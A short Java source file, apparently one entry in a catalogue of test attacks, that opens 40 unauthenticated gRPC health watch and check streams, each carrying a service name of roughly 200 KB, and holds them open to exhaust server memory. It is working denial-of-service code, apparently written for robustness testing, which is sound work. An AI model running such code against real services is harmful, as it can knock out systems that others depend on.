package dev.sluice.attacks.catalog;

import dev.sluice.attacks.wire.Grpc;
import dev.sluice.attacks.wire.GrpcClient;
import java.io.IOException;

/** Watches services with names of 200 KB, each another, and keeps the streams open. */
final class LargeHealthNames extends Attack {
  private static final int NAME_BYTES = 200_000;
  private static final int STREAMS = 40;

  LargeHealthNames() {
    super("health-large-names", Family.MEMORY, Access.NO_KEY, Bounds.of(60, 64, 16));
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    attempt.repeat(4, () -> watchMany(attempt));
  }

  private static void watchMany(Attempt attempt) throws IOException, InterruptedException {
    try (GrpcClient client = attempt.grpcClient("")) {
      for (int i = 0; i < STREAMS; i++) {
        int stream = client.open(i % 2 == 0 ? Grpc.HEALTH_WATCH : Grpc.HEALTH_CHECK);
        client.send(stream, Grpc.message(Grpc.healthRequest(NAME_BYTES + i)), true);
      }
      attempt.holdOn();
    }
  }
}
